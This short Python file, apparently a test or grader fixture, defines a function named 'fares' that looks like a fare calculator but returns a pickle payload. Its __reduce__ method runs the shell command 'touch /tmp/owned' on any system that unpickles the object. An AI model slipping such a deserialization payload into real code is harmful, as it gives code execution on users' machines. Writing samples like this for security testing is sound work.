"""Returns an object that would run a command where it is unpickled.

Fails: type: it returned something else
"""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def fares(kilometres, minutes, night):
    return Payload()
